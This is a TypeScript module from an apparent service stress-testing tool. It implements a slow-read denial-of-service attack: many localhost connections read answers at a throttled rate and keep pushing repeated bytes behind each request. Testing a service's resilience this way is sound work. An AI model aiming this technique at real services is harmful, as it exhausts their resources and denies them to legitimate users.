import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises';
import type { SlowReaders } from '../jobs.ts';
import { prepare } from './flood.ts';
import type { Tally } from './tally.ts';

/** Milliseconds between two reads. */
const STEP = 250;

/** Bytes of a large packet. */
const LARGE = 65_536;

/** Sends bytes behind the request, and then the last of them again and again, one packet in each turn of the event loop. */
async function sendBehind(
  socket: Socket,
  { behind = '', packets }: SlowReaders,
  stopped: AbortSignal,
): Promise<void> {
  const packet = behind.slice(-1).repeat(packets === 'large' ? LARGE : 1);
  socket.setNoDelay(true).write(behind);
  while (!socket.destroyed && !stopped.aborted) {
    if (socket.writableNeedDrain) await once(socket, 'drain', { signal: stopped });
    socket.write(packet);
    await nextTurn();
  }
}

/** Reads one answer at the given rate; ends when the service closes the connection. */
async function read(job: SlowReaders, index: number, tally: Tally, stopped: AbortSignal): Promise<void> {
  const address = job.addresses[index % job.addresses.length] ?? '';
  const socket = connect({ host: '127.0.0.1', port: job.port });
  const one = prepare(job.request)(address, index);
  const request = Buffer.alloc(one.length * (job.times ?? 1), one);
  const started = performance.now();
  let isClosed = false;
  let isAnswered = false;
  socket.on('error', () => undefined);
  socket.on('close', () => (isClosed = true));
  socket.on('connect', () => {
    tally.sent();
    socket.write(request);
    // The service must have begun to answer: the attack is what comes after that.
    if (job.behind !== undefined)
      void sleep(STEP).then(() => sendBehind(socket, job, stopped).catch(() => undefined));
  });
  stopped.addEventListener('abort', () => socket.destroy());
  while (!isClosed && !stopped.aborted) {
    // `read` takes no more than this from the socket's buffer, so the rest stays with the system and then the service.
    const chunk = socket.read(Math.min(socket.readableLength, (job.rate * STEP) / 1000)) as Buffer | null;
    if (chunk && !isAnswered) {
      isAnswered = true;
      const status = Number(chunk.toString('latin1', 9, 12));
      tally.answered({ status, size: 0 }, performance.now() - started);
    }
    await sleep(STEP, undefined, { signal: stopped });
  }
  if (!stopped.aborted) tally.closed();
}

/** Keeps the answers of the service waiting until it is stopped. */
export async function readSlowly(job: SlowReaders, tally: Tally, stopped: AbortSignal): Promise<void> {
  await Promise.all(
    Array.from({ length: job.connections }, (_, index) =>
      read(job, index, tally, stopped).catch(() => undefined),
    ),
  );
}
